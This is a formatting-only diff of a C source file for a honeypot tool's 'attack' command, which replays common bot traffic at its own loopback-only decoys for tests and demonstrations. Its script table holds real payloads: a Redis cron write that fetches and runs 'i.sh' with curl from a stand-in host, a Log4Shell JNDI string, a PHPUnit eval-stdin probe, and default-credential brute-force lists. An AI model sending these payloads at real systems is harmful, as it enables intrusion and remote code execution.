@@ -1,5 +1,5 @@
-/* sundew attack: friendly attack traffic at our own decoys on this host, so that a demonstration or a
- * test has something to show. No option reaches another host: targets are loopback, always.
+/* sundew attack: friendly attack traffic at our own decoys on this host, so that a demonstration or
+ * a test has something to show. No option reaches another host: targets are loopback, always.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -14,9 +14,9 @@
 #include "base/log.h"
 #include "cli/command.h"
 
-#define ANSWER_MAX  65536
-#define STEP_WAIT   120 /* milliseconds that a step waits for its answer */
-#define SOURCES     60  /* different loopback addresses that attacks come from */
+#define ANSWER_MAX 65536
+#define STEP_WAIT  120 /* milliseconds that a step waits for its answer */
+#define SOURCES    60  /* different loopback addresses that attacks come from */
 
 static const struct command_option attack_options[] = {
 	{"port-offset", 0, "N", "Added to every port, as for `sundew run` (default: 0)"},
@@ -26,7 +26,8 @@ static const struct command_option attack_options[] = {
 	{"wait", 0, "N", "Wait up to so many seconds for the first port to open"},
 };
 
-/* What a bot says to one port, step by step; @U, @P and @N become a user, a password and a number. */
+/* What a bot says to one port, step by step; @U, @P and @N become a user, a password and a number.
+ */
 struct script {
 	const char *name;
 	uint16_t port;
@@ -37,30 +38,57 @@ struct script {
 
 static const struct script scripts[] = {
 	{"telnet log-in", 23, false, 6, {"", "@U\r\n", "@P\r\n", "enable\r\n"}},
-	{"redis cron write", 6379, false, 2,
+	{"redis cron write",
+	 6379,
+	 false,
+	 2,
 	 {"*1\r\n$4\r\nINFO\r\n", "CONFIG SET dir /var/spool/cron\r\n",
 	  "CONFIG SET dbfilename root\r\n",
 	  "SET x \"\\n*/5 * * * * curl -fsSL http://198.51.100.@N/i.sh | sh\\n\"\r\n", "SAVE\r\n"}},
 	{"redis password", 6379, false, 2, {"AUTH @P\r\n", "PING\r\n", "QUIT\r\n"}},
-	{"web scan", 80, false, 5,
+	{"web scan",
+	 80,
+	 false,
+	 5,
 	 {"GET /.env HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n",
 	  "GET /wp-login.php HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0\r\n\r\n"}},
-	{"web log-in", 80, false, 4,
+	{"web log-in",
+	 80,
+	 false,
+	 4,
 	 {"POST /login HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Type: "
 	  "application/x-www-form-urlencoded\r\nContent-Length: 29\r\n\r\n"
 	  "username=admin&password=@P000"}},
-	{"log4shell", 8080, false, 2,
+	{"log4shell",
+	 8080,
+	 false,
+	 2,
 	 {"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://198.51.100.@N/a}\r\n\r\n"}},
-	{"phpunit", 80, false, 1,
+	{"phpunit",
+	 80,
+	 false,
+	 1,
 	 {"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: x\r\n"
 	  "Content-Length: 26\r\n\r\n<?php echo md5('sundew');?>"}},
 	{"ftp log-in", 21, false, 4, {"", "USER @U\r\n", "PASS @P\r\n", "QUIT\r\n"}},
-	{"ftp upload try", 21, false, 1, {"", "USER anonymous\r\n", "PASS x@y\r\n", "PASV\r\n", "QUIT\r\n"}},
-	{"ethereum", 8545, false, 2,
-	 {"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 62\r\n\r\n"
+	{"ftp upload try",
+	 21,
+	 false,
+	 1,
+	 {"", "USER anonymous\r\n", "PASS x@y\r\n", "PASV\r\n", "QUIT\r\n"}},
+	{"ethereum",
+	 8545,
+	 false,
+	 2,
+	 {"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
+	  "62\r\n\r\n"
 	  "{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],\"id\":1001}"}},
-	{"sip scan", 5060, true, 3,
-	 {"OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:5999;branch=z9hG4bK-@N;rport"
+	{"sip scan",
+	 5060,
+	 true,
+	 3,
+	 {"OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP "
+	  "127.0.0.1:5999;branch=z9hG4bK-@N;rport"
 	  "\r\nMax-Forwards: 70\r\nFrom: \"sipvicious\"<sip:100@1.1.1.1>;tag=6@N\r\nTo: "
 	  "\"sipvicious\"<sip:100@1.1.1.1>\r\nCall-ID: 8@N\r\nCSeq: 1 OPTIONS\r\nContact: "
 	  "sip:100@127.0.0.1:5999\r\nAccept: application/sdp\r\nUser-Agent: friendly-scanner\r\n"
@@ -70,11 +98,12 @@ static const struct script scripts[] = {
 	{"vnc probe", 5900, false, 1, {"RFB 003.008\n"}},
 };
 
-static const char *const users[] = {"root", "admin", "root", "user", "test", "support", "oracle",
-				    "pi", "ubuntu", "guest"};
-static const char *const passwords[] = {
-	"123456", "admin", "root", "password", "12345", "1234", "xc3511", "vizxv", "888888", "default",
-	"raspberry", "qwerty", "letmein", "P@ssw0rd", "changeme", "toor", "test", "111111", "support", "guest"};
+static const char *const users[] = {"root",    "admin",  "root", "user",   "test",
+				    "support", "oracle", "pi",   "ubuntu", "guest"};
+static const char *const passwords[] = {"123456",    "admin",  "root",    "password", "12345",
+					"1234",      "xc3511", "vizxv",   "888888",   "default",
+					"raspberry", "qwerty", "letmein", "P@ssw0rd", "changeme",
+					"toor",      "test",   "111111",  "support",  "guest"};
 
 struct attack {
 	uint64_t draws;
@@ -117,7 +146,6 @@ static void fill_in(struct attack *attack, const char *text, struct writer *out)
 	}
 }
 
-
 /* A connected socket from one of many loopback addresses, or -1. */
 static int connect_from(struct attack *attack, const struct script *script)
 {
@@ -126,16 +154,16 @@ static int connect_from(struct attack *attack, const struct script *script)
 	struct pollfd wait;
 	socklen_t length;
 	int one = 1, failure = 0;
-	int descriptor = socket(to.address.family == 4 ? AF_INET : AF_INET6,
-				(script->datagram ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK |
-					SOCK_CLOEXEC,
-				0);
+	int descriptor = socket(
+		to.address.family == 4 ? AF_INET : AF_INET6,
+		(script->datagram ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
 
 	if (descriptor < 0)
 		return -1;
 	to.port = (uint16_t)(script->port + attack->offset);
 	if (to.address.family == 4) {
-		from.address = address_v4(0x7f000000u + 0x10101u * (uint32_t)(1 + draw_skewed(attack, SOURCES)));
+		from.address = address_v4(0x7f000000u +
+					  0x10101u * (uint32_t)(1 + draw_skewed(attack, SOURCES)));
 		setsockopt(descriptor, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
 		length = endpoint_to_socket(&from, &address);
 		(void)!bind(descriptor, (struct sockaddr *)&address, length);
@@ -231,12 +259,14 @@ static int run_attack(const struct invocation *invocation)
 
 	if (address_parse(slice_text(target ? target : "127.0.0.1"), &attack.target.address) < 0 ||
 	    !address_is_loopback(&attack.target.address))
-		usage_error(invocation, "--target %s: attacks go to loopback addresses only, always",
+		usage_error(invocation,
+			    "--target %s: attacks go to loopback addresses only, always",
 			    target ? target : "");
 	if (option_given(invocation, "wait") &&
 	    !wait_for_decoys(&attack, option_number(invocation, "wait", 10, 0, 3600))) {
-		log_error("no decoy listens on port %u: is `sundew run` up, with this --port-offset?",
-			  80 + attack.offset);
+		log_error(
+			"no decoy listens on port %u: is `sundew run` up, with this --port-offset?",
+			80 + attack.offset);
 		return EXIT_TROUBLE;
 	}
 	until = clock_monotonic() + seconds * SECOND;
@@ -251,7 +281,8 @@ static int run_attack(const struct invocation *invocation)
 const struct command command_attack = {
 	.name = "attack",
 	.summary = "Send friendly attack traffic at the decoys of this host",
-	.details = "Plays sessions of common bots from many loopback addresses. It never reaches another\n"
+	.details = "Plays sessions of common bots from many loopback addresses. It never reaches "
+		   "another\n"
 		   "host: a target that is not loopback is refused.",
 	.options = attack_options,
 	.option_count = ARRAY_COUNT(attack_options),
